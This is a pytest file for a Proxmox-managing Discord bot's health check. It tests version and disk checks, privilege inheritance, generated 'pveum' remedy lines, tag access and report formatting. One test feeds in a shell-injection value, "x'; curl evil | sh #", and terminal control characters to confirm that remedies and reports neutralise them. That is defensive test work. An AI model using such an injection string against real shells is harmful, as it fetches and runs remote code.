"""Test the judgements of the health check, and their sentences with the remedy, without a stage."""

from __future__ import annotations

import re
import shlex

import pytest

from core.health.discord import Registered, invitation, judge_commands, judge_guild, judge_permissions
from core.health.host import DataDir, File, judge_data_dir, judge_files, judge_packages
from core.health.privileges import NEEDS, Inventory, Token, grant_line, held_on, judge_token
from core.health.proxmox import judge_clock, judge_tags, judge_version
from core.health.readiness import Finding, GuildView, Problem, RequiredSetup
from core.health.result import Verdict, error, failed, of_finding
from core.proxmox_errors import TokenRefused
from startup.health.probe import certificate_of, offset_of
from startup.health.report import json_report, text_report
from tests.support.misconfigured.fault import BAD, DOUBT
from tests.support.walked import walked
from ui.i18n import Texts
from ui.messages.health import result_line

TEXTS = Texts("en")


def test_the_machine() -> None:
    wanted = {"aiohttp": "3.14.5", "discord.py": "2.7.1"}
    assert judge_packages("3.11.7", wanted, wanted).level is Verdict.OK
    other = judge_packages("3.11.7", wanted, {"aiohttp": "3.0.0", "discord.py": None})
    assert (other.level, other.values["names"]) == (DOUBT, "aiohttp 3.0.0 → 3.14.5, discord.py – → 2.7.1")
    words = [judge_data_dir(DataDir("/data", free)).word for free in (0, 50 * 2**20, 2**40)]
    assert words == ["data_dir_full", "data_dir_low", "data_dir_ok"]
    assert judge_data_dir(DataDir("/data", 2**40, in_use=True)).level is Verdict.OK
    assert [r.word for r in judge_files([File("config.py", "/a b", 0o640)])] == ["files_ok"]
    assert judge_files([File("config.py", "/a b", 0o604)])[0].values["line"] == "chmod o-rwx '/a b'"


def test_a_list_that_is_cut_short_says_so() -> None:
    six = [f"owner-{number}" for number in range(6)]
    packages = judge_packages("3.11.7", dict.fromkeys(six, "2"), {}).values["names"]
    commands = judge_commands(Registered(frozenset({"list"})), six, "link").values["names"]
    tags = judge_tags({}, six, (), "").values["tags"]
    assert [text.split(", ")[4:] for text in (packages, commands, tags)] == [
        ["owner-4 – → 2", "… +1"],
        ["/owner-4", "… +1"],
        ["owner-4", "… +1"],
    ]
    assert judge_tags({}, six[1:], (), "").values["tags"].endswith("owner-5")


def test_of_an_unavailable_guild_only_that_is_said() -> None:
    wanted = RequiredSetup({"": "pve"}, 1, 2, {"ALERT_CHANNEL_ID": 3}, {})
    found = judge_guild(wanted, GuildView("Home", available=False), "link")
    assert [(each.check, each.level, each.word) for each in found] == [
        ("discord.guild", Verdict.ERROR, "guild_away")
    ]


def test_rights_are_inherited_and_replaced_as_in_proxmox() -> None:
    rights = {"/": {"Sys.Audit": 1, "Pool.Audit": 0}, "/vms": {"VM.Audit": 1}, "/vms/7": {"VM.PowerMgmt": 1}}
    assert held_on(rights, "/nodes") == {"Sys.Audit"}  # Pool.Audit does not propagate
    assert held_on(rights, "/") == {"Sys.Audit", "Pool.Audit"}
    assert held_on(rights, "/vms/8") == {"VM.Audit"}
    assert held_on(rights, "/vms/7") == {"VM.PowerMgmt"}
    in_pool = {"/pool/lab": {name: 1 for need in NEEDS for name in need.privileges}}
    found = judge_token(Token("u@pve", "t", in_pool, 9), Inventory({7: "lab"}), "")
    assert not any("/vms" in result.values.get("paths", "") for result in found)
    assert {result.values["paths"] for result in found if result.check == "proxmox.privileges"} <= {
        "/nodes",
        "/",
        "/storage",
        "/sdn/zones/localnetwork",
    }
    few = {"/pool/lab": {"VM.Audit": 1, "Pool.Audit": 1}}
    power = judge_token(Token("u@pve", "t", few, 9), Inventory({7: "lab", 8: "lab"}), "")[0]
    assert power.values["paths"] == "/pool/lab"  # not all guests of the cluster
    # a role on a path replaces those from above it: the bot keeps its privileges there
    inherited = {"/": {"VM.Audit": 1, "Sys.Audit": 1, "VM.Console": 1}}
    power = judge_token(Token("u@pve", "t", inherited, 9), Inventory({7: None}), "")[0]
    assert power.values["line"].startswith(
        'pveum role add DiscordBotExtraPower --privs "Sys.Audit VM.Audit VM.PowerMgmt"; pveum acl modify /vms '
    )
    line = grant_line(Token("u@pve", "t", {}, 9), "Power", ["VM.PowerMgmt"], ["/vms/7"])
    assert line == (
        'pveum role add DiscordBotExtraPower --privs "VM.PowerMgmt"; '
        "pveum acl modify /vms/7 --users u@pve --tokens 'u@pve!t' --roles DiscordBotExtraPower"
    )


@walked(
    ("rights", "paths"),
    [
        ({"/nodes": 1}, "/"),  # Proxmox shows a token the tasks of the cluster only with the privilege on /
        ({"/": 0}, "/nodes"),
        ({}, "/"),
        ({"/": 1}, None),
        ({"/": 0, "/nodes": 1}, None),
    ],
)
def test_tasks_need_their_privilege_on_the_cluster_and_on_its_nodes(
    rights: dict[str, int], paths: str | None
) -> None:
    tasks = [need for need in NEEDS if need.role == "Tasks"]
    held = {path: {"Sys.Audit": propagates} for path, propagates in rights.items()}
    (found,) = judge_token(Token("u@pve", "t", held, 9), Inventory(), "", tasks)
    assert (found.word, found.values.get("paths")) == (
        ("privilege_missing", paths) if paths else ("privileges_ok", None)
    )


@walked(
    ("options", "word"),
    [
        ({}, "tags_open"),
        ({"registered-tags": ["owner-1", "protected"]}, "tags_ok"),
        ({"registered-tags": "owner-1;protected"}, "tags_ok"),
        ({"registered-tags": "owner-1"}, "tags_open"),
        ({"user-tag-access": {"user-allow": "none"}}, "tags_ok"),
        ({"user-tag-access": "user-allow=list,user-allow-list=web"}, "tags_ok"),
        ({"user-tag-access": {"user-allow": "list", "user-allow-list": ["protected"]}}, "tags_open"),
        ({"user-tag-access": {"user-allow": "existing"}}, "tags_open"),
    ],
)
def test_people_who_may_set_the_tags(options: dict[str, object], word: str) -> None:
    assert judge_tags(options, ["owner-1", "Protected", "web"], (), "").word == word
    assert judge_tags(options, ["web"], (), "").word == "tags_none"


def test_versions_and_clocks() -> None:
    words = {text: judge_version(text, "").word for text in ("8.3.9", "8.4.0", "9.2.11", "10.0.1", "?", "²")}
    assert list(words.values()) == [f"version_{word}" for word in ("old", "ok", "ok", "new", "old", "old")]
    assert offset_of("Thu, 01 Jan 1970 00:10:00 GMT", 0.0, 1.0) == 599.0
    assert offset_of("Thu, 01 Jan 1970 00:00:00 GMT", 0.5, 0.6) == 0.0
    assert offset_of("soon", 0.0, 1.0) is None
    clocks = [judge_clock("proxmox.clock", offset, "") for offset in (None, -30.0, 30.0, 31.0, -31.0)]
    assert [each.word for each in clocks] == [
        f"clock_{word}" for word in ("untold", "ok", "ok", "behind", "ahead")
    ]
    with pytest.raises(ValueError, match="not a certificate"):
        certificate_of(b"\x30\x03\x02\x01\x01")


def test_the_bots_commands_and_permissions_in_discord_are_judged() -> None:
    """A fault is a line with its remedy. A thing that is merely not known yet is not a fault."""
    link = invitation(42)
    judged = [
        judge_commands(Registered(frozenset(names), allowed), ["info", "list"], link)
        for names, allowed in (((), False), ((), True), (("list",), True), (("info", "list", "x"), True))
    ]
    assert [(each.word, each.level) for each in judged] == [
        ("commands_not_allowed", BAD),
        ("commands_at_start", Verdict.OK),
        ("commands_missing", DOUBT),
        ("commands_ok", Verdict.OK),
    ]
    assert "/info" in result_line(TEXTS.of("en"), judged[2])
    powerful, least = (judge_permissions(administrator=each, link=link) for each in (True, False))
    assert (powerful.word, powerful.level) == ("discord_administrator", DOUBT)
    assert least.level is Verdict.OK
    for language in ("en", "ja"):
        for each in (judged[0], powerful, least):
            assert link in result_line(TEXTS.of(language), each)


def test_texts_of_proxmox_cannot_command_a_shell_or_a_terminal() -> None:
    """Its remedies are pasted into a root shell, and the report goes to a terminal."""
    evil = "x'; curl evil | sh #"
    told = judge_tags({}, [f"owner-{evil}"], (), "").values["line"]
    assert shlex.split(told)[-2:] == ["--registered-tags", f"owner-{evil}"]
    granted = grant_line(Token("bot@pve", "bot", {}, 9), "View", {"VM.Audit"}, [f"/pool/{evil}"])
    assert f"/pool/{evil}" in shlex.split(granted)
    name = "\x9b31m\u202e\ud800"
    results = [error("discord.guild", "no_guild", guild=name, line="x")]
    assert json_report(Texts("ja").of("ja"), results).isascii()
    assert not any(char in text_report(Texts("ja").of("ja"), results) for char in name if char not in "31m")


def test_a_shortage_on_the_machine_is_one_line_with_its_remedy() -> None:
    path = "/var/lib/bot"
    rows = (
        (
            judge_packages("3.11.7", {"aiohttp": "2"}, {}),
            DOUBT,
            r"aiohttp – → 2.*pip install --require-hashes",
        ),
        (judge_data_dir(DataDir(path, 0)), BAD, f"{path}.*0 MiB"),
        (judge_data_dir(DataDir(path, 50 * 2**20)), DOUBT, f"50 MiB.*{path}|{path}.*50 MiB"),
        (error("host.data_dir", "data_dir_hung", path=path), BAD, path),
        (of_finding("discord.guild", Finding(Problem.GUILD_AWAY, "GUILD_ID")), BAD, "GUILD_ID"),
        (failed("proxmox.token", TokenRefused()), BAD, "PROXMOX_TOKEN_VALUE"),
    )
    for result, level, remedy in rows:
        lines = [result_line(TEXTS.of(language), result) for language in ("en", "ja")]
        assert result.level is level
        assert len(set(lines)) == 2
        assert all(re.search(remedy, line) and "\n" not in line for line in lines), lines
